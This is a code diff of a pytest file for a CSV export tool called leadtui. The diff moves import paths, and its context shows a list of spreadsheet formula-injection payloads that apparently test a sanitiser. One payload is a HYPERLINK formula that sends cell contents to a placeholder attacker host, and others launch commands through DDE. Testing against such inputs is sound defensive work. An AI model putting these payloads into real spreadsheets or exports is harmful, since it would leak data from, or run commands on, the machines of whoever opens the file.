@@ -8,11 +8,11 @@ import json
 
 import pytest
 
-from leadtui import leads
 from leadtui.context import Context
 from leadtui.db.connection import close_db, init_db
 from leadtui.interop.export import CSV_COLUMNS
-from leadtui.safecsv import neutral
+from leadtui.kit.safecsv import neutral
+from leadtui.leads import writes as leads
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -90,7 +90,7 @@ def test_a_csv_export_imports_back_as_it_was(cli, clock, config, tmp_path):
 
 
 def test_a_cell_that_only_starts_with_a_quote_is_kept():
-    from leadtui.safecsv import unneutral
+    from leadtui.kit.safecsv import unneutral
 
     assert [unneutral(v) for v in ("'quoted'", "'", "'-5", "O'Brien", "'=x")] == ["'quoted'", "'", "'-5",
                                                                                "O'Brien", "=x"]
